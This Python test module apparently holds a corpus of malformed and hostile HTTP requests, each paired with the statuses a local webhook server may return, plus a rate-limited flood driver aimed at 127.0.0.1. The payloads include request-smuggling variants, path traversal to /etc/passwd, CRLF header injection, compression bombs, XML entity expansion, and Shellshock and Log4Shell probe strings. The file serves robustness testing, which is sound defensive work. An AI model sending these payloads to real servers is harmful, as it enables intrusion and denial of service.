"""
What strangers send to a port that is open to the world, byte for byte.

`@@` stands for a token.  Each says with which statuses it may be answered, by any of the servers
that there are.

    python -m tests.hostile_requests PORT COUNT RATE

sends COUNT of the short ones, RATE a second, and prints how many were refused, in what time.
"""

from __future__ import annotations

import base64
import gzip
import json
import sys
import zlib
from collections import defaultdict
from collections.abc import Iterable, Sequence
from random import Random

import anyio
from attrs import field, frozen

GOOD = b"@@"
BAD = b"A" * 43
TOKENS = {"good": GOOD, "bad": BAD}
MAX_BODY = 256 * 1024


@frozen
class Case:
    """One connection's worth of bytes, and the statuses that may come back."""

    name: str
    data: bytes = field(repr=False)
    statuses: frozenset[int] = frozenset()
    answers: int = 1
    """How many of them to wait for; none for what is not whole."""
    then: bytes = field(default=b"", repr=False)
    """What is sent when they have come."""


CORPUS: dict[str, list[Case]] = defaultdict(list)
_answers: Sequence[int]


def add(
    group: str, name: str, data: bytes, *statuses: int, answers: int = 1, then: bytes = b""
) -> None:
    """Add what is to be answered with nothing but these; what may take its time comes last."""
    group = "slow bodies" if 408 in statuses else group
    CORPUS[group].append(Case(name, data, frozenset(statuses), answers, then))


def add_part(group: str, name: str, data: bytes) -> None:
    """Add what is not whole."""
    CORPUS[group].append(Case(name, data, frozenset({400, 404, 408}), answers=0))


def request(
    body: bytes = b"",
    *headers: bytes,
    token: bytes = BAD,
    method: bytes = b"POST",
    target: bytes | None = None,
    version: bytes = b"HTTP/1.1",
    length: bytes | None = b"",
) -> bytes:
    """A request; `length` is what it says of its body (None: nothing)."""
    target = b"/liangxin/" + token if target is None else target
    lines = [method + b" " + target + b" " + version, b"Host: x", *headers]
    if length is not None:
        lines.append(b"Content-Length: " + (length or b"%d" % len(body)))
    return b"\r\n".join([*lines, b"", b""]) + body


def chunks(pieces: Iterable[bytes]) -> bytes:
    """A chunked body, without its end."""
    return b"".join(b"%x\r\n%b\r\n" % (len(piece), piece) for piece in pieces)


def chunked(body: bytes, *headers: bytes, token: bytes = BAD) -> bytes:
    """A request with a body that is chunked already."""
    said = (b"Transfer-Encoding: chunked", *headers)
    return request(body, *said, token=token, length=None)


# --- methods -----------------------------------------------------------------------------------

for _method in (
    *(b"GET", b"HEAD", b"PUT", b"PATCH", b"DELETE", b"OPTIONS", b"TRACE"),
    *(b"PROPFIND", b"SEARCH", b"LINK", b"SOURCE", b"M-SEARCH", b"REPORT"),
):
    for _name, _token in TOKENS.items():
        add(
            "methods",
            f"{_method.decode()} {_name}",
            request(method=_method, token=_token),
            400,
            405,
        )
for _method in (
    b"post",
    b"Post",
    b"FOO",
    b"X" * 5000,
    b"P@ST",
    b"PO\0ST",
    b"P\xc3\x96ST",
    b"",
    b"\t",
):
    # A server may know no more methods than there are; POST in any case is POST.
    add("methods", repr(_method[:20]), request(method=_method, token=GOOD), 200, 400, 405)
add("methods", "CONNECT", request(method=b"CONNECT", target=b"example.com:443"), 400, 404, 405)
add("methods", "OPTIONS *", request(method=b"OPTIONS", target=b"*"), 400, 404, 405)
add("methods", "two methods", request(method=b"GET POST"), 400)

# --- targets -----------------------------------------------------------------------------------

_ROUND_A_TOKEN = (
    *(b"/liangxin/%s", b"//liangxin//%s", b"/liangxin/./%s", b"/liangxin/../liangxin/%s"),
    *(b"/liangxin/%%2e%%2e/%s", b"/liangxin/..%%2f%s", b"/liangxin/%s/", b"/liangxin/%s/."),
    *(b"/liangxin/%s/..", b"/liangxin/%s?x=1", b"/liangxin/%s?", b"/liangxin/%s#fragment"),
    *(b"/liangxin/%s%%00", b"/liangxin/%s%%0a", b"/liangxin/%s%%0d%%0aX-Evil:%%201", b"/%s"),
    *(b"/liangxin/%s%%", b"/liangxin/%s%%zz", b"/liangxin/%s%%u0041", b"/liangxin/%s;x=1"),
    *(b"/liangxin/%s%%c0%%af", b"/liangxin/%%2F%s", b"/liangxin%%2F%s", b"/LIANGXIN/%s"),
    *(b"http://x/liangxin/%s", b"https://other.example/liangxin/%s", b"http://%s", b"liangxin/%s"),
    *(b"/liangxin\\%s", b"/liangxin/?%s", b"/liangxin/x?/%s", b"//evil.example/%s", b"*%s"),
    *(b"/liangxin/%s\xff\xfe", b"/liangxin/%s\xc3\xa9", b"/liangxin/%s\0", b"/liangxin/%s\t"),
    *(b"/liangxin/%%ff%%fe/%s", b"/liangxin/%s %s", b"ftp://x/liangxin/%s", b"javascript:%s"),
)
for _pattern in _ROUND_A_TOKEN:
    for _name, _token in TOKENS.items():
        _target = _pattern.replace(b"%s", _token).replace(b"%%", b"%")
        # A token is good wherever the app is mounted, so only a bad one has a certain answer.
        _statuses = (200, 307, 400, 404) if _token is GOOD else (307, 400, 404)
        add("targets", f"{_pattern!r} {_name}", request(b"{}", target=_target), *_statuses)
add("targets", "a long path", request(target=b"/" + b"a" * 70_000), 400, 404)
add("targets", "a long query", request(target=b"/liangxin/x?" + b"a" * 70_000), 400, 404)
add("targets", "many dots", request(target=b"/liangxin/" + b"../" * 5000 + b"x"), 400, 404)
add("targets", "many slashes", request(target=b"/" * 10_000), 400, 404)
add("targets", "many escapes", request(target=b"/liangxin/" + b"%41" * 5000), 400, 404)
add("targets", "every letter escaped", request(target=b"/liangxin/" + b"%41" * 43), 404)
add("targets", "no target", request(target=b""), 400)

# --- versions, and what is not HTTP at all -----------------------------------------------------

for _version in (
    *(b"HTTP/1.0", b"HTTP/1.2", b"HTTP/0.9", b"HTTP/2", b"HTTP/2.0", b"HTTP/9.9"),
    *(b"HTTP/1.10", b"http/1.1", b"HTTP/1.1 ", b"HTTP/ 1.1", b"HTTP/-1.1", b"HTTPS/1.1", b"", b"X"),
    *(b"HTTP/11", b"HTTP/1,1", b"HTTP/1.1\0", b"RTSP/1.0", b"ICE/1.0"),
):
    add("versions", repr(_version), request(version=_version), 400, 404, 405)
add("versions", "1.0 without a host", b"POST /liangxin/%b HTTP/1.0\r\n\r\n" % BAD, 404)
add("versions", "HTTP/0.9", b"GET /liangxin/x\r\n\r\n", 400, 405)
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"
add("versions", "an HTTP/2 preface", _PREFACE, 400, 404, 405)
for _name, _data in {
    "a TLS greeting": bytes.fromhex("16030100a5010000a10303") + b"\x5a" * 160 + b"\r\n\r\n",
    "SSH": b"SSH-2.0-OpenSSH_9.9\r\n\r\n",
    "SMTP": b"EHLO x\r\n\r\n",
    "SOCKS": b"\5\1\0\r\n\r\n",
    "Redis": b"*1\r\n$4\r\nPING\r\n\r\n",
    "zeros": b"\0" * 100_000 + b"\r\n\r\n",
    "noise": Random(1).randbytes(100_000) + b"\r\n\r\n",
    "an answer": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    "HTML": b"<html></html>\r\n\r\n",
    "JSON": b'{"data":{"taskId":"x"}}\r\n\r\n',
    "UTF-16": "POST / HTTP/1.1\r\n\r\n".encode("utf-16") + b"\r\n\r\n",
}.items():
    add("versions", _name, _data, 400)
add("versions", "empty lines before", b"\r\n" * 3 + request(), 400, 404)
add_part("versions", "nothing but empty lines", b"\r\n" * 5000)
add_part("versions", "nothing but line feeds", b"\n" * 5000)

# --- headers -----------------------------------------------------------------------------------

_MANY = tuple(b"X-%d: y" % number for number in range(10_000))
for _name, _headers in {
    "a plain one": (b"X: y",),
    "two hosts": (b"Host: y",),
    "a host with a slash": (b"Host: a/b@c",),
    "a hundred": _MANY[:100],
    "a thousand": _MANY[:1000],
    "ten thousand": _MANY,
    "ten thousand of one name": (b"X: y",) * 10_000,
    "ten thousand of a length": (b"Content-Length: 0",) * 10_000,
    "a line of 8 KiB": (b"X: " + b"y" * 8192,),
    "a line of 15 KiB": (b"X: " + b"y" * 15_000,),
    "a line of 64 KiB": (b"X: " + b"y" * 65_536,),
    "a line of a megabyte": (b"X: " + b"y" * 2**20,),
    "a name of 64 KiB": (b"X" * 65_536 + b": y",),
    "a line of spaces": (b"X:" + b" " * 50_000 + b"y",),
    "no name": (b": y",),
    "no colon": (b"X",),
    "only a colon": (b":",),
    "a space before the colon": (b"X : y",),
    "a tab in the name": (b"X\tY: z",),
    "a NUL in the name": (b"X\0: y",),
    "a NUL in the value": (b"X: \0",),
    "control characters": (b"X: \x01\x02\x1b[31m",),
    "no UTF-8 in the value": (b"X: \xff\xfe",),
    "no ASCII in the name": (b"X-\xc3\xa9: y",),
    "a folded value": (b"X: a\r\n b",),
    "a fold first": (b" X: a",),
    "a fold with a tab": (b"X: a\r\n\tb",),
    "a bare line feed": (b"X: a\nY: b",),
    "a bare carriage return": (b"X: a\rY: b",),
    "a hidden empty line": (b"X: a\n\nPOST /hidden HTTP/1.1\nHost: x\n",),
    "that the length is hop by hop": (b"Connection: content-length",),
    "a close": (b"Connection: close",),
    "keep-alive": (b"Connection: keep-alive", b"Keep-Alive: timeout=999999"),
    "cookies": (b"Cookie: " + b"a=b; " * 2000,),
    "another's address": (b"X-Forwarded-For: 127.0.0.1", b"X-Forwarded-Proto: https"),
    "another path": (b"X-Original-URL: /liangxin/@@", b"X-Rewrite-URL: /liangxin/@@"),
    "another method": (b"X-HTTP-Method-Override: POST",),
    "credentials": (b"Authorization: Bearer @@", b"Proxy-Authorization: Basic eDp5"),
    "a range": (b"Range: bytes=0-18446744073709551615",),
    "a shell": (b"User-Agent: () { :; }; /bin/true", b"X: ${jndi:ldap://x}"),
}.items():
    add("headers", _name, request(b"{}", *_headers), 400, 404)
    if len(_headers) < 100 and _name != "a hidden empty line":
        add("headers", f"{_name}, good token", request(b"{}", *_headers, token=GOOD), 200, 400)

# --- lengths -----------------------------------------------------------------------------------

for _length in (
    *(b"-1", b"+2", b"0x2", b"2 2", b"2,2", b"2, 3", b"2.0", b"2e0", b"", b"two", b"2\0", b"2;"),
    *(
        b"\xb2",
        b"9" * 18,
        b"9" * 19,
        b"9" * 20,
        b"9" * 21,
        b"9" * 5000,
        b"00000002",
        b"0" * 30 + b"2",
    ),
    *(b"262145", b"2147483648", b"4294967298", b"18446744073709551618", b"-18446744073709551614"),
):
    for _name, _token in TOKENS.items():
        _said = _length or b" "
        _case = request(b"{}", token=_token, length=_said)
        _answers = (404, 400) if _token is BAD else (200, 400, 408, 413)
        add("lengths", f"{_length[:24]!r} {_name}", _case, *_answers)
for _name, _twice in {
    "twice the same": (b"2", b"2"),
    "twice": (b"2", b"3"),
    "twice, the other way round": (b"3", b"2"),
    "once and none": (b"2", b"0"),
    "once and nonsense": (b"2", b"x"),
}.items():
    _headers = tuple(b"Content-Length: " + each for each in _twice)
    add("lengths", _name, request(b"{}x", *_headers, length=None), 400, 404)
    add(
        "lengths",
        f"{_name}, good token",
        request(b"{}x", *_headers, token=GOOD, length=None),
        200,
        400,
    )
add("lengths", "as long as may be", request(b" " * MAX_BODY, token=GOOD), 200)
add("lengths", "a byte too long", request(b" " * (MAX_BODY + 1), token=GOOD), 413)
add("lengths", "none said", request(b"{}", token=GOOD, length=None), 200, 400)
add("lengths", "a megabyte for a bad token", request(b" " * 2**20), 404)

# --- chunks ------------------------------------------------------------------------------------

_END = b"0\r\n\r\n"
for _name, _body, *_answers in (
    ("one", chunks([b"{}"]) + _END, 200),
    ("ten thousand", chunks([b" "] * 10_000) + _END, 200),
    ("one that is too long", chunks([b" " * (MAX_BODY + 1)]) + _END, 413),
    ("many that are too long", chunks([b" " * 65_536] * 20) + _END, 413),
    ("none at all", _END, 200),
    ("an extension", b"2;a=b\r\n{}\r\n" + _END, 200),
    ("a quoted extension", b'2;a="b;c"\r\n{}\r\n' + _END, 200, 400),
    ("a huge extension", b"2;" + b"a" * 2**20 + b"\r\n{}\r\n" + _END, 200, 400),
    ("many extensions", b"2" + b";a=b" * 5000 + b"\r\n{}\r\n" + _END, 200, 400),
    ("a size in letters", b"zz\r\n{}\r\n" + _END, 400),
    ("a negative size", b"-2\r\n{}\r\n" + _END, 400),
    ("a size with a plus", b"+2\r\n{}\r\n" + _END, 400),
    ("a size in C", b"0x2\r\n{}\r\n" + _END, 400),
    ("a size of nothing", b"\r\n{}\r\n" + _END, 400),
    ("a size with zeros", b"0" * 12 + b"2\r\n{}\r\n" + _END, 200, 400),
    ("a size with many zeros", b"0" * 5000 + b"2\r\n{}\r\n" + _END, 200, 400),
    ("a size with a space", b"2 \r\n{}\r\n" + _END, 200, 400),
    ("a size after a space", b" 2\r\n{}\r\n" + _END, 200, 400),
    ("a size past 64 bits", b"F" * 17 + b"\r\n{}\r\n" + _END, 400, 408, 413),
    ("a size that wraps round", b"1" + b"0" * 15 + b"2\r\n{}\r\n" + _END, 400, 408, 413),
    ("no line end after the data", b"2\r\n{}0\r\n\r\n", 400),
    ("line feeds only", b"2\n{}\n0\n\n", 200, 400, 408),
    ("more data than said", b"2\r\n{}{}\r\n" + _END, 400),
    ("less data than said", b"5\r\n{}\r\n" + _END, 400, 408),
    ("a trailer", chunks([b"{}"]) + b"0\r\nX: y\r\n\r\n", 200),
    ("a trailer with a length", chunks([b"{}"]) + b"0\r\nContent-Length: 9\r\n\r\n", 200, 400),
    ("a trailer that encodes", chunks([b"{}"]) + b"0\r\nTransfer-Encoding: gzip\r\n\r\n", 200, 400),
    (
        "ten thousand trailers",
        chunks([b"{}"]) + b"0\r\n" + b"\r\n".join(_MANY) + b"\r\n\r\n",
        200,
        400,
    ),
    (
        "a trailer of a megabyte",
        chunks([b"{}"]) + b"0\r\nX: " + b"y" * 2**20 + b"\r\n\r\n",
        200,
        400,
    ),
    ("a trailer that is none", chunks([b"{}"]) + b"0\r\nnonsense\r\n\r\n", 200, 400),
):
    add("chunks", _name, chunked(_body, token=GOOD), *_answers)
    add("chunks", f"{_name}, bad token", chunked(_body), 404, 400)

# --- smuggling ---------------------------------------------------------------------------------

_HIDDEN = request(b"", method=b"GET", target=b"/hidden")
_TWO = {200, 400, 404, 405}
for _name, _header in {
    "CL.TE": b"Transfer-Encoding: chunked",
    "TE with a space before the colon": b"Transfer-Encoding : chunked",
    "TE after a tab": b"Transfer-Encoding:\tchunked",
    "TE in a fold": b"Transfer-Encoding:\r\n chunked",
    "TE in quotes": b'Transfer-Encoding: "chunked"',
    "TE with a prefix": b"Transfer-Encoding: xchunked",
    "TE with a parameter": b"Transfer-Encoding: chunked;q=1",
    "TE in capitals": b"TRANSFER-ENCODING: CHUNKED",
    "TE with a NUL": b"Transfer-Encoding: chunked\0",
    "TE with a vertical tab": b"Transfer-Encoding: \x0bchunked",
    "TE with a CR": b"Transfer-Encoding: chunked\r",
    "TE after a line feed": b"X: y\nTransfer-Encoding: chunked",
    "TE twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "TE and identity": b"Transfer-Encoding: chunked, identity",
    "identity and TE": b"Transfer-Encoding: identity, chunked",
    "gzip and TE": b"Transfer-Encoding: gzip, chunked",
    "TE.TE": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "identity": b"Transfer-Encoding: identity",
    "an empty TE": b"Transfer-Encoding:",
}.items():
    _body = _END + _HIDDEN
    for _which, _token in TOKENS.items():
        _case = request(_body, _header, token=_token)
        add("smuggling", f"{_name} {_which}", _case, 200, 400, 404, 405)
for _name, _token in TOKENS.items():
    _long = chunks([_HIDDEN]) + _END
    _case = request(_long, b"Transfer-Encoding: chunked", token=_token, length=b"4")
    add("smuggling", f"TE.CL {_name}", _case, 200, 400, 404)
    add("smuggling", f"CL.0 {_name}", request(_HIDDEN, token=_token, length=b"0"), *_TWO)
    _case = request(b"{}", token=_token, version=b"HTTP/1.0\r\nTransfer-Encoding: chunked")
    add("smuggling", f"TE in HTTP/1.0 {_name}", _case, 200, 400, 404, 408)
    _line = b"/liangxin/%b HTTP/1.1\r\nX: /liangxin/y" % _token
    add("smuggling", f"a header in the target {_name}", request(b"{}", target=_line), 200, 400, 404)

# --- encodings ---------------------------------------------------------------------------------

_BOMB = gzip.compress(gzip.compress(b"\0" * 2**26))
for _name, _encoding, _body in (
    ("gzip", b"gzip", gzip.compress(b"{}")),
    ("a bomb", b"gzip", gzip.compress(b"\0" * 2**24)),
    ("a bomb in a bomb", b"gzip, gzip", _BOMB),
    ("deflate", b"deflate", zlib.compress(b"{}" * 10_000)),
    ("brotli", b"br", b"\x0b\x00\x80{}\x03"),
    ("zstd", b"zstd", b"\x28\xb5\x2f\xfd" + b"\0" * 100),
    ("x-gzip", b"x-gzip", gzip.compress(b"{}")),
    ("one that nobody knows", b"x-unknown", b"{}"),
    ("a long one", b"gzip, " * 1000 + b"gzip", b"{}"),
    ("Base64", b"base64", base64.b64encode(b"{}")),
):
    _header = b"Content-Encoding: " + _encoding
    add("encodings", _name, request(_body, _header, token=GOOD), 415)
    add("encodings", f"{_name}, bad token", request(_body, _header), 404)
add("encodings", "identity", request(b"{}", b"Content-Encoding: identity", token=GOOD), 200)
add("encodings", "a bomb that says nothing", request(_BOMB, token=GOOD), 200)

# --- bodies ------------------------------------------------------------------------------------

for _name, _body in {
    "nothing": b"",
    "lists in lists": b"[" * MAX_BODY,
    "objects in objects": b'{"a":' * (MAX_BODY // 5),
    "33 levels": b"[" * 33 + b"]" * 33,
    "a string without an end": b'"' + b'\\"' * (MAX_BODY // 2 - 1),
    "backslashes": b"\\" * MAX_BODY,
    "digits": b"9" * MAX_BODY,
    "a big exponent": b'{"data":1e999999999}',
    "NaN": b'{"data":{"taskId":NaN}}',
    "no UTF-8": b'{"data":{"taskId":"\xff\xfe"}}',
    "NULs": b"\0" * MAX_BODY,
    "a byte order mark": b"\xef\xbb\xbf{}",
    "UTF-16": "{}".encode("utf-16"),
    "a lone surrogate": b'{"data":{"taskId":"\\udcff"}}',
    "a key twice": b'{"data":{"taskId":"x"},"data":{"taskId":"y"}}',
    "a form": b"data=1&taskId=2",
    "parts": b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb\r\n--x--\r\n",
    "XML": b'<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><x>&c;</x>',
    "another's task": b'{"code":200,"data":{"taskId":"task_z-image_1","state":"success"}}',
    "a path": b'{"data":{"taskId":"../../etc/passwd"}}',
}.items():
    add("bodies", _name, request(_body, token=GOOD), 200)
    add("bodies", f"{_name}, bad token", request(_body), 404)

# --- more than one request ---------------------------------------------------------------------

_GENUINE = request(b"{}", token=GOOD)
for _name, _data, _count, *_answers in (
    ("ten good", _GENUINE * 10, 10, 200),
    ("a thousand bad", request(b"{}") * 1000, 1000, 404),
    ("good and bad in turns", (_GENUINE + request(b"{}")) * 20, 40, 200, 404),
    ("garbage behind", _GENUINE + b"\0\1\2garbage\r\n\r\n", 2, 200, 400),
    ("gets", request(method=b"GET") * 50, 50, 405),
    ("behind a close", request(b"{}", b"Connection: close") * 3, 1, 404, 400),
    ("in HTTP/1.0", request(b"{}", version=b"HTTP/1.0") * 3, 1, 404, 400),
    ("behind a body that is too long", request(b" " * 300_000, token=GOOD) * 2, 2, 413),
    ("behind a bad token's body", request(b" " * 300_000) * 3, 3, 404),
    ("HEAD and POST", request(method=b"HEAD") + _GENUINE, 2, 200, 405),
    ("chunks and a length", chunked(_END) + request(b"{}") + chunked(_END), 3, 404),
):
    add("pipelining", _name, _data, *_answers, answers=_count)

# --- expectations and upgrades -----------------------------------------------------------------

for _name, _headers in {
    "100-continue": (b"Expect: 100-continue",),
    "another expectation": (b"Expect: 200-ok",),
    "an empty expectation": (b"Expect:",),
    "a websocket": (
        b"Connection: Upgrade",
        b"Upgrade: websocket",
        b"Sec-WebSocket-Version: 13",
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    ),
    "HTTP/2": (
        b"Connection: Upgrade, HTTP2-Settings",
        b"Upgrade: h2c",
        b"HTTP2-Settings: AAMAAABk",
    ),
    "TLS": (b"Connection: Upgrade", b"Upgrade: TLS/1.0"),
    "an upgrade to many": (b"Connection: Upgrade", b"Upgrade: " + b"a, " * 1000 + b"websocket"),
}.items():
    add("upgrades", _name, request(b"{}", *_headers, token=GOOD), 100, 200, 400, 417)
    add("upgrades", f"{_name}, bad token", request(b"{}", *_headers), 404, 400, 417)
    add("upgrades", f"{_name}, GET", request(b"", *_headers, method=b"GET"), 405, 400, 417)

# --- what goes on after the answer ----------------------------------------------------------------

_OPEN = chunked(b"2\r\n{}\r\n")
for _name, _then in {
    "a size in letters": b"zz\r\n",
    "a huge chunk": b"ffffffff\r\n" + b" " * 2**20,
    "trailers": b"0\r\n" + b"X: y\r\n" * 10_000 + b"\r\n",
    "garbage": Random(2).randbytes(10_000),
    "another request": _END + request(b"{}", token=GOOD),
    "nothing but the end": _END,
}.items():
    add("afterwards", f"chunks: {_name}", _OPEN, 200, 404, 400, then=_then)
for _name, _then in {
    "the body": b" " * 100_000,
    "more than the body": b" " * 200_000,
    "part of the body": b" ",
}.items():
    _case = request(b"", length=b"100000")
    add("afterwards", f"a length: {_name}", _case, 404, 400, then=_then)
    _case = request(b"", length=b"999999", token=GOOD)
    add("afterwards", f"too great a length: {_name}", _case, 413, 400, then=_then)

# --- what never becomes whole ------------------------------------------------------------------

for _name, _data in {
    "nothing": b"",
    "a letter": b"P",
    "half a line": b"POST /liangxin/",
    "half a head": b"POST /liangxin/@@ HTTP/1.1\r\nHost: x\r\n",
    "a head without an end": b"POST /liangxin/@@ HTTP/1.1\r\n" + b"X: y\r\n" * 2000,
    "no body": request(b"", token=GOOD, length=b"10"),
    "half a body": request(b"{", token=GOOD, length=b"2"),
    "a long body that breaks off": request(b" " * 200_000, token=GOOD, length=b"262144"),
    "half a chunk": chunked(b"5\r\n{}", token=GOOD),
    "half a size of a chunk": chunked(b"5", token=GOOD),
    "a long size of a chunk": chunked(b"0" * 100_000, token=GOOD),
    "chunks without an end": chunked(chunks([b"{}"] * 10), token=GOOD),
    "half a trailer": chunked(b"0\r\nX: ", token=GOOD),
    "a body that was expected": request(b"", b"Expect: 100-continue", token=GOOD, length=b"10"),
    "a head of half a megabyte": b"POST / HTTP/1.1\r\nX: " + b"y" * 2**19,
    "a line of half a megabyte": b"POST /" + b"y" * 2**19,
    "a method of half a megabyte": b"P" * 2**19,
}.items():
    add_part("broken off", _name, _data)

ALL: Sequence[Case] = [case for cases in CORPUS.values() for case in cases]


async def flood(port: int, count: int, rate: int) -> tuple[int, float]:
    """Send so many of the short ones, so many a second; how many were refused, in what time."""
    junk = [case for case in CORPUS["targets"] + CORPUS["lengths"] if _is_short(case)]
    begun = anyio.current_time()
    answers: list[bytes] = []

    async def stranger(numbers: range) -> None:
        for number in numbers:
            await anyio.sleep_until(begun + number / rate)
            async with await anyio.connect_tcp("127.0.0.1", port) as stream:
                await stream.send(junk[number % len(junk)].data)
                answers.append(await stream.receive())

    async with anyio.create_task_group() as group:
        for number in range(STRANGERS):
            group.start_soon(stranger, range(number, count, STRANGERS))
    refused = sum(answer.startswith((b"HTTP/1.1 4", b"HTTP/1.1 307")) for answer in answers)
    return refused, anyio.current_time() - begun


STRANGERS = 100
"""How many of them come at a time."""


def _is_short(case: Case) -> bool:
    is_answered = case.answers == 1 and not case.then
    return is_answered and len(case.data) < 1000 and GOOD not in case.data


if __name__ == "__main__":
    _port, _count, _rate = map(int, sys.argv[1:])
    print(json.dumps(anyio.run(flood, _port, _count, _rate)))
